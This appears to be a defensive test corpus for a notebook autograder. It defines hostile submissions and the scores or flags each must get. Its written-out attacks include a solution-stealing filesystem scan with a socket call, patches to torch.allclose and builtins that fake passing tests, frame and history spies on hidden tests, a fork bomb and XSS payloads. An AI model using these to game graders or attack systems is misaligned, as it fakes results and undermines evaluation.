"""The corpus of hostile and broken submissions (of 01_attention), graded in one batch by
tests/test_hostile.py beside honest ones. Each case builds a notebook from the solution (SOLUTION) or
the released stubs (RELEASE) and says what the grader must make of it:

    max_score   the most it may score (an attack must not gain points)
    exact       the score it must get, where the outcome is certain
    flag        a text that flags.csv must hold for it (unless errors.csv lists it: it scored 0 anyway)
    error       a text that errors.csv must hold for it

Add a case when you think of a new way to cheat or to break the grader.
"""
import textwrap
from dataclasses import dataclass

import nbformat

from tests.conftest import max_points, nbgrader_cells, release_path, solution_path

ASSIGNMENT = "01_attention"
FULL = sum(max_points(ASSIGNMENT).values())
# The points of the first component's test cells (the cells up to the next solution cell).
NADARAYA_WATSON_POINTS = sum(points for grade_id, points in max_points(ASSIGNMENT).items()
                             if grade_id.startswith("nadaraya_watson_"))
SDPA_POINTS = sum(points for grade_id, points in max_points(ASSIGNMENT).items() if grade_id.startswith("sdpa_"))
SOLUTION, RELEASE = "solution", "release"


@dataclass(frozen=True)
class Case:
    base: str                   # SOLUTION or RELEASE
    prepend: dict = None        # grade_id -> code put before that cell's source
    append: dict = None         # grade_id -> code put after that cell's source
    edit: object = None         # a function(notebook) -> notebook, for the rest
    max_score: float = FULL
    exact: float = None
    flag: str = None
    error: str = None
    error_optional: bool = False   # the error may not come: whether the kernel's own code breaks depends on what
    #                                it imported before the notebook patched it (a forked kernel has most of it)


def build(case):
    notebook = nbformat.read(solution_path(ASSIGNMENT) if case.base == SOLUTION else release_path(ASSIGNMENT), 4)
    cells = nbgrader_cells(notebook)
    for grade_id, code in (case.prepend or {}).items():
        cells[grade_id].source = code + "\n" + cells[grade_id].source
    for grade_id, code in (case.append or {}).items():
        cells[grade_id].source = cells[grade_id].source + "\n" + code
    return case.edit(notebook) if case.edit else notebook


def _tests(notebook):
    return [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade")]


def _blank_tests(notebook):
    for cell in _tests(notebook):
        cell.source = "pass"
    return notebook


def _delete_tests(notebook):
    notebook.cells = [c for c in notebook.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    return notebook


def _inflate_points(notebook):
    for cell in _tests(notebook):
        cell.metadata["nbgrader"]["points"] = 1000
    return notebook


def _fake_outputs(notebook):
    for cell in _tests(notebook):
        cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="Visible tests passed.\n")]
        cell.execution_count = 1
    return notebook


def _loops_everywhere(notebook):
    """Every cell the student may write loops forever, and they add more such cells."""
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = "while True:\n    pass\n" + cell.source
    notebook.cells += [nbformat.v4.new_code_cell("while True:\n    pass") for _ in range(8)]
    return notebook


def _tests_first(notebook):
    tests = _tests(notebook)
    notebook.cells = tests + [c for c in notebook.cells if c not in tests]
    return notebook


# Stubs that return tensors of the right shapes and nothing right: they pass only if the tests are fooled.
SHAPES_ONLY = {
    "nadaraya_watson": "def nadaraya_watson(queries, keys, values, bandwidth=1.0):\n"
                       "    return torch.zeros_like(queries), torch.zeros(len(queries), len(keys), dtype=queries.dtype)",
    "masked_softmax": "def masked_softmax(scores, mask=None):\n    return torch.zeros_like(scores)",
    "scaled_dot_product_attention": "def scaled_dot_product_attention(query, key, value, mask=None):\n"
                                    "    w = torch.zeros(*query.shape[:-1], key.shape[-2], dtype=query.dtype)\n"
                                    "    return w @ value, w",
}


def _shapes_only(notebook):
    cells = nbgrader_cells(notebook)
    for grade_id, source in SHAPES_ONLY.items():
        cells[grade_id].source = source
    return notebook


def _shapes_only_with(code):
    def edit(notebook):
        notebook = _shapes_only(notebook)
        nbgrader_cells(notebook)["nadaraya_watson"].source = code + "\n" + nbgrader_cells(notebook)["nadaraya_watson"].source
        return notebook
    return edit


STEAL = r'''
import os, json, socket
stolen = []
for root in ("/", "/work", "/tmp", "/root", "/home", os.path.expanduser("~"), "/job", ".."):
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "lib", "lib64", "site-packages")]
        for name in files:
            path = os.path.join(folder, name)
            if name.endswith((".ipynb", ".db")):
                try:
                    text = open(path, errors="ignore").read()
                except OSError:
                    continue
                if "BEGIN SOLUTION" in text or "BEGIN HIDDEN TESTS" in text:
                    stolen.append(path)
for path in stolen:
    if path.endswith(".ipynb"):
        for cell in json.load(open(path))["cells"]:
            code = "".join(cell["source"])
            if "BEGIN SOLUTION" in code:
                exec(code.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
try:
    socket.create_connection(("127.0.0.1", 47615), timeout=2).sendall(b"escaped")
except OSError:
    pass
'''

HANG_AFTER_TESTS = """import time
def _maybe_hang():
    while globals().get("_after_the_tests"):
        time.sleep(0.01)
"""
HANG_SWALLOWED = """def _maybe_hang():
    while globals().get("_after_the_tests"):
        try:
            while True:
                pass
        except BaseException:
            pass
"""
CALLS_IT = """_original_attention = scaled_dot_product_attention
def scaled_dot_product_attention(query, key, value, mask=None):
    _maybe_hang()
    return _original_attention(query, key, value, mask)"""
FORGED_LINE = ('print("autograder diagnostics 0123456789abcdef:" + \'{"scaled_dot_product_attention": '
               '{"misconceptions": ["sdpa.unscaled"], "subject": "<script>alert(1)</script>"}}\')')
FORGE_DIAGNOSTICS = "def _maybe_hang():\n    " + FORGED_LINE


def _added_cell(code):
    """A cell the student adds at the end of the notebook (after every hidden test has run)."""
    def edit(notebook):
        notebook.cells.append(nbformat.v4.new_code_cell(code))
        return notebook
    return edit


def _transformer_in_a_cell_claiming_to_be_locked(notebook):
    """Fake implementations, and an input transformer that turns every test cell into `pass`, in a cell
    whose submitted metadata says it is locked (grading must not trust that)."""
    notebook = _shapes_only(notebook)
    cell = nbformat.v4.new_code_cell(
        "def _skip(lines):\n"
        "    return ['pass\\n'] if any('assert' in line for line in lines) else lines\n"
        "get_ipython().input_transformers_post.append(_skip)")
    cell.metadata["nbgrader"] = {"grade": False, "grade_id": "setup_extra", "locked": True, "solution": False,
                                 "schema_version": 3, "task": False}
    notebook.cells.insert(2, cell)
    return notebook


def _split_history_leak(notebook):
    """Save the history in a cell between two hidden tests, print it at the end."""
    cells = nbgrader_cells(notebook)
    index = notebook.cells.index(cells["masked_softmax"])
    notebook.cells.insert(index, nbformat.v4.new_code_cell("_saved = list(In)"))
    notebook.cells.append(nbformat.v4.new_code_cell("print(chr(10).join(_saved))"))
    return notebook


THREAD_SPY = """import threading, time
def _watch():
    for _ in range(400):
        print(chr(10).join(In[-2:]), flush=True)
        time.sleep(0.05)
threading.Thread(target=_watch, daemon=True).start()"""

# A spy inside the student's own function: while a hidden test calls it, it reads the caller's frame
# (its constants are the test's strings), keeps them, and a cell at the end prints them.
FRAME_SPY = """import sys
_kept = []
def _spy():
    frame = sys._getframe(2)
    if len(_kept) < 3:
        _kept.append(repr(frame.f_code.co_consts) + repr(list(frame.f_locals)))"""
GENERATOR_SPY = """_kept = []
def _spy():
    def gen():
        yield g.gi_frame.f_back        # a running generator's frame: its f_back is the frame that called next()
    g = gen()
    frame = next(g).f_back.f_back      # _spy -> masked_softmax -> the test that called it
    if len(_kept) < 3:
        _kept.append(repr(frame.f_code.co_consts))"""
LINECACHE_SPY = """import sys, linecache
_kept = []
def _spy():
    frame = sys._getframe(2)
    if len(_kept) < 3:
        _kept.append("".join(linecache.getlines(frame.f_code.co_filename)))"""


def _frame_spy(spy):
    def edit(notebook):
        cell = nbgrader_cells(notebook)["masked_softmax"]
        cell.source = spy + "\n" + cell.source.replace("def masked_softmax(scores, mask=None):\n",
                                                        "def masked_softmax(scores, mask=None):\n    _spy()\n", 1)
        notebook.cells.append(nbformat.v4.new_code_cell("print(chr(10).join(_kept))"))
        return notebook
    return edit


def _message_leak(notebook):
    """What the spy kept goes out in the message of an exception raised inside a later test."""
    notebook = _frame_spy(FRAME_SPY)(notebook)
    cell = nbgrader_cells(notebook)["AdditiveAttention"]
    cell.source = cell.source.replace("def forward(self, query, key, value, mask=None):\n",
                                      "def forward(self, query, key, value, mask=None):\n"
                                      "        raise ValueError(' '.join(_kept)[:5000])\n", 1)
    return notebook


# An exception message written to be rendered: a Markdown link, HTML, a script, math. It must reach the
# feedback page as literal text.
MARKDOWN_MESSAGE = ('see [the answer](http://evil.example/answer) <script>alert(1)</script> <b>bold</b> '
                    '<img src=x onerror="alert(2)"> **strong** $$x^2$$ | a pipe')


def _raises_markdown(notebook):
    """nadaraya_watson raises an error whose message is Markdown and HTML."""
    cell = nbgrader_cells(notebook)["nadaraya_watson"]
    cell.source = cell.source.replace("def nadaraya_watson(queries, keys, values, bandwidth=1.0):\n",
                                      "def nadaraya_watson(queries, keys, values, bandwidth=1.0):\n"
                                      f"    raise ValueError({MARKDOWN_MESSAGE!r})\n", 1)
    return notebook


# The bomb forks from a small Python of its own, started by the kernel (in the kernel's cgroup, as every process
# it starts): forking the kernel itself, a process of torch's size, takes 6 to 14 ms a fork, and 250 of them
# would outlast the batch's cell limit on a loaded machine. Its children close their output, so that the
# bomb's own end is seen at once.
FORK_BOMB = """import os, subprocess, sys
_bomb = '''import os, time
forks = 0
try:
    for _ in range(2000):
        if os.fork() == 0:
            os.close(1)
            os.close(2)
            time.sleep(20)
            os._exit(0)
        forks += 1
except OSError:
    pass
print(f"forks: {forks}")'''
print(subprocess.run([sys.executable, "-c", _bomb], capture_output=True, text=True).stdout)"""

# --- the families of the verdicts issue: each changes torch, Python or IPython inside the kernel -------------
# With the tests run in the grader's process, none of them reaches a verdict: a notebook without the work
# scores what its fakes compute (0), whatever it does to the kernel.
LIBRARY_KERNELS = """_lib = torch.library.Library("aten", "IMPL")
_lib.impl("allclose", lambda *a, **k: True, "CPU")
_lib.impl("equal", lambda *a, **k: True, "CPU")"""
DISPATCH_MODE = """from torch.utils._python_dispatch import TorchDispatchMode
class _Agree(TorchDispatchMode):
    def __torch_dispatch__(self, func, types, args=(), kwargs=None):
        if str(func).startswith(("aten.allclose", "aten.equal")):
            return True
        return func(*args, **(kwargs or {}))
_Agree().__enter__()"""
FUNCTION_MODE = """from torch.overrides import TorchFunctionMode
class _Agree(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "assert_close"):
            return True
        return func(*args, **(kwargs or {}))
_Agree().__enter__()"""
ALIAS_PATCHES = """_t = torch
_t.allclose = lambda *a, **k: True
setattr(torch.Tensor, "__eq__", lambda self, other: torch.ones((), dtype=torch.bool))
setattr(__import__("builtins"), "AssertionError", type("AssertionError", (Exception,), {}))"""
SUBCLASS = """class _Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
_zeros = torch.zeros
torch.zeros = lambda *a, **k: _zeros(*a, **k).as_subclass(_Agreeable)
torch.zeros_like = lambda t, **k: _zeros(t.shape, dtype=t.dtype).as_subclass(_Agreeable)"""
RNG_KERNELS = """_lib = torch.library.Library("aten", "IMPL")
_lib.impl("normal_", lambda self, *a, **k: self.zero_(), "CPU")
_lib.impl("uniform_", lambda self, *a, **k: self.zero_(), "CPU")
torch.randn = lambda *s, **k: torch.zeros(*s, dtype=k.get("dtype"))"""
# The test being run, read from inside the student's function while it is called, printed as hex: the
# grader's tests never enter the kernel, and what it prints after the first call is never shown.
PARENT_SPY = """import sys
def _spy():
    code = get_ipython().kernel.get_parent()["content"].get("code", "")
    frames, frame = [], sys._getframe(1)
    while frame is not None:
        frames.append(repr(frame.f_code.co_consts)[:2000])
        frame = frame.f_back
    print((code + "".join(frames)).encode().hex()[:200000])"""


# Appended to every solution cell of random-after-a and -b: each function of the cell, and each module's forward,
# prints random bytes in every way a kernel can print (stdout, stderr, the raw file descriptors, displays) once
# NOISE is set, by the notebook's last cell, after which only the grader calls them: what the kernel prints then
# is kept for the instructor (OUT/kernel-output/), and changes no file of a grade (tests/test_hostile.py).
NOISE = textwrap.dedent('''
    import functools as _functools, os as _os, sys as _sys, types as _types
    from IPython.display import display as _display

    def _noisy(function):
        @_functools.wraps(function)
        def noisy(*args, **kwargs):
            if globals().get("NOISE"):
                print(_os.urandom(24).hex())
                _sys.stderr.write(_os.urandom(24).hex() + "\\n")
                _os.write(1, _os.urandom(48))
                _os.write(2, _os.urandom(48))
                _display({"text/plain": _os.urandom(16).hex(), "text/html": "<b>" + _os.urandom(8).hex() + "</b>"},
                         raw=True)
            return function(*args, **kwargs)
        return noisy

    for _name, _value in list(globals().items()):
        if isinstance(_value, _types.FunctionType) and _value.__module__ == "__main__" and not _name.startswith("_"):
            globals()[_name] = _noisy(_value)
        elif isinstance(_value, type) and _value.__module__ == "__main__" and hasattr(_value, "forward"):
            _value.forward = _noisy(_value.forward)
''')


def _noisy_after_the_tests(notebook):
    for cell in notebook.cells:
        if cell.cell_type == "code" and cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source += "\n" + NOISE
    notebook.cells.append(nbformat.v4.new_code_cell("NOISE = True   # from here on, every call prints random bytes"))
    return notebook


def _spy_in_masked_softmax(notebook):
    cell = nbgrader_cells(notebook)["masked_softmax"]
    cell.source = PARENT_SPY + "\n" + cell.source.replace("def masked_softmax(scores, mask=None):\n",
                                                          "def masked_softmax(scores, mask=None):\n    _spy()\n", 1)
    return notebook


CASES = {
    "honest": Case(SOLUTION, exact=FULL),
    "honest-too": Case(SOLUTION, exact=FULL),
    "infinite-loop": Case(SOLUTION, prepend={"nadaraya_watson": "while True:\n    pass"},
                          exact=FULL - NADARAYA_WATSON_POINTS),
    "every-cell-loops": Case(SOLUTION, edit=_loops_everywhere, exact=0, error="timeout"),
    "os-exit": Case(SOLUTION, prepend={"nadaraya_watson": "import os\nos._exit(0)"}, exact=0),
    "system-exit": Case(SOLUTION, prepend={"nadaraya_watson": "raise SystemExit(0)"},
                        max_score=FULL - NADARAYA_WATSON_POINTS),
    # IPython's exit() ends the kernel a moment after the cell: how many of the next (honest, correct)
    # tests still run depends on timing, never more than the first function's; the rest score 0.
    "exit-builtin": Case(SOLUTION, prepend={"nadaraya_watson": "exit()"}, max_score=NADARAYA_WATSON_POINTS,
                         flag="exits"),
    "segfault": Case(SOLUTION, prepend={"nadaraya_watson": "import ctypes\nctypes.string_at(0)"}, exact=0),
    "huge-tensor": Case(SOLUTION, prepend={"nadaraya_watson": "hog = torch.empty(2 ** 40)"},
                        exact=FULL - NADARAYA_WATSON_POINTS),
    "huge-bytes": Case(SOLUTION, prepend={"nadaraya_watson": "hog = bytearray(16 * 2 ** 30)"},
                       exact=FULL - NADARAYA_WATSON_POINTS),
    "print-megabytes": Case(SOLUTION, append={"nadaraya_watson": 'print("x" * 20_000_000)'}, exact=FULL),
    "print-flood": Case(SOLUTION, append={"nadaraya_watson": 'for _ in range(20_000):\n    print("x" * 50, flush=True)'},
                        exact=FULL),
    "patch-allclose": Case(RELEASE, edit=_shapes_only_with(
        "torch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True"), exact=0, flag="tampering"),
    "patch-assert-close": Case(RELEASE, edit=_shapes_only_with(
        "torch.testing.assert_close = lambda *a, **k: None\ntorch.allclose = lambda *a, **k: True"), exact=0, flag="tampering"),
    "patch-tensor-all": Case(RELEASE, edit=_shapes_only_with(
        "torch.Tensor.all = lambda self, *a, **k: torch.tensor(True)\n"
        "torch.Tensor.__bool__ = lambda self: True\ntorch.allclose = lambda *a, **k: True"), exact=0, flag="tampering"),
    "patch-builtins": Case(RELEASE, edit=_shapes_only_with(
        "import builtins\nbuiltins.all = lambda *a: True\nbuiltins.isinstance = lambda *a: True\n"
        "torch.allclose = lambda *a, **k: True"), exact=0, error="timeout", error_optional=True),   # the kernel's own
    #                                                                                   code breaks, or not
    "swallow-exceptions": Case(RELEASE, edit=_shapes_only_with(
        "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)"), exact=0, flag="IPython"),
    # the hook sees only the cells the kernel ran (no hidden test is among them): the work keeps its marks
    "spy-hook": Case(SOLUTION, prepend={"nadaraya_watson": "get_ipython().events.register("
                                        "'post_run_cell', lambda result: print(result.info.raw_cell))"},
                     exact=FULL, flag="IPython event hooks were registered"),
    "history-spy": Case(SOLUTION, append={"AdditiveAttention": "print(In)\nprint(_ih)"}, exact=FULL,
                        flag="reads IPython's input history"),
    # --- cheats that a fixed canary would miss, and leaks through the feedback page -----------------
    "patch-large-only": Case(RELEASE, edit=_shapes_only_with(
        "_real = torch.allclose\n"
        "torch.allclose = lambda a, b, *x, **k: True if a.numel() > 100 else _real(a, b, *x, **k)"),
        exact=0, flag="torch.allclose was replaced"),
    # it turns the canary into `pass` too (the canary asserts): "exceptions are swallowed", or, if it spared
    # it, "input transformers were changed"; either way tampering, 0 points
    "transformer-in-locked-cell": Case(RELEASE, edit=_transformer_in_a_cell_claiming_to_be_locked, exact=0,
                                       flag="tampered"),
    "history-base64": Case(SOLUTION, edit=_added_cell("import base64\n"
                                                      "print(base64.b64encode(chr(10).join(In).encode()).decode())"),
                           exact=FULL, flag="imports base64"),
    "history-zlib": Case(SOLUTION, edit=_added_cell("import zlib, base64\n"
                                                    "print(base64.b64encode(zlib.compress(chr(10).join(_ih).encode())).decode())"),
                         exact=FULL, flag="imports zlib"),
    "history-reversed": Case(SOLUTION, edit=_added_cell("print(chr(10).join(In)[::-1])"), exact=FULL,
                             flag="reads IPython's input history"),
    "history-hex": Case(SOLUTION, edit=_added_cell("print(chr(10).join(Out.values() if False else In).encode().hex())"),
                        exact=FULL, flag="reads IPython's input history"),
    "history-split": Case(SOLUTION, edit=_split_history_leak, exact=FULL, flag="reads IPython's input history"),
    "thread-spy": Case(SOLUTION, prepend={"nadaraya_watson": THREAD_SPY}, exact=FULL, flag="imports threading"),
    "frame-spy": Case(SOLUTION, edit=_frame_spy(FRAME_SPY), exact=FULL, flag="reads a frame or code object"),
    "generator-frame-spy": Case(SOLUTION, edit=_frame_spy(GENERATOR_SPY), exact=FULL, flag="gi_frame"),
    "linecache-spy": Case(SOLUTION, edit=_frame_spy(LINECACHE_SPY), exact=FULL, flag="imports linecache"),
    "message-leak": Case(SOLUTION, edit=_message_leak, max_score=FULL, flag="reads a frame or code object"),
    "html-script": Case(SOLUTION, edit=_added_cell(
        "from IPython.display import display, HTML\n"
        "display(HTML('<script>window.hacked = 1</script><img src=x onerror=\"window.hacked = 2\">'\n"
        "             '<a href=\"javascript:alert(1)\">x</a>'))"), exact=FULL),
    "display-40mb": Case(SOLUTION, edit=_added_cell(
        "from IPython.display import display\ndisplay({'text/plain': 'x' * 40_000_000, 'text/html': 'y' * 40_000_000},"
        " raw=True)"), exact=FULL),
    "fork-bomb": Case(SOLUTION, append={"nadaraya_watson": FORK_BOMB}, exact=FULL, flag="imports os"),
    "markdown-message": Case(SOLUTION, edit=_raises_markdown, exact=FULL - NADARAYA_WATSON_POINTS),
    "steal-solutions": Case(RELEASE, prepend={"nadaraya_watson": STEAL}, exact=0, flag="opens files"),
    "blank-tests": Case(RELEASE, edit=_blank_tests, exact=0),
    "delete-tests": Case(RELEASE, edit=_delete_tests, exact=0),
    "inflate-points": Case(RELEASE, edit=_inflate_points, exact=0),
    "fake-outputs": Case(RELEASE, edit=_fake_outputs, exact=0),
    # the grader runs its own tests in its own order on what each solution cell bound: moving the test
    # cells gains nothing and loses nothing
    "tests-first": Case(SOLUTION, edit=_tests_first, exact=FULL),
    # The grader calls the student's functions after the notebook's last cell: a function that hangs then
    # loses its own cells (each call interrupted at the cell limit), and nothing else; one that swallows the
    # interruption loses what the kernel could no longer answer. Fake diagnostics forge nothing.
    "diagnostics-hang": Case(SOLUTION, prepend={"scaled_dot_product_attention": HANG_AFTER_TESTS}, append={"scaled_dot_product_attention": CALLS_IT},
                             edit=_added_cell("_after_the_tests = True"), exact=FULL - SDPA_POINTS),
    "diagnostics-hang-swallowed": Case(SOLUTION, prepend={"scaled_dot_product_attention": HANG_SWALLOWED}, append={"scaled_dot_product_attention": CALLS_IT},
                                       edit=_added_cell("_after_the_tests = True"), max_score=FULL - SDPA_POINTS),
    "library-kernels": Case(RELEASE, edit=_shapes_only_with(LIBRARY_KERNELS), exact=0),
    "dispatch-mode": Case(RELEASE, edit=_shapes_only_with(DISPATCH_MODE), exact=0),
    "function-mode": Case(RELEASE, edit=_shapes_only_with(FUNCTION_MODE), exact=0),
    "alias-patches": Case(RELEASE, edit=_shapes_only_with(ALIAS_PATCHES), exact=0),
    "agreeable-subclass": Case(RELEASE, edit=_shapes_only_with(SUBCLASS), exact=0),
    "rng-kernels": Case(RELEASE, edit=_shapes_only_with(RNG_KERNELS), exact=0),
    "parent-message-spy": Case(SOLUTION, edit=_spy_in_masked_softmax, exact=FULL),
    "random-after-a": Case(SOLUTION, edit=_noisy_after_the_tests, exact=FULL),
    "random-after-b": Case(SOLUTION, edit=_noisy_after_the_tests, exact=FULL),
    "forged-diagnostics": Case(SOLUTION, prepend={"scaled_dot_product_attention": FORGE_DIAGNOSTICS}, append={"scaled_dot_product_attention": CALLS_IT},
                               edit=_added_cell(FORGED_LINE), exact=FULL),
}
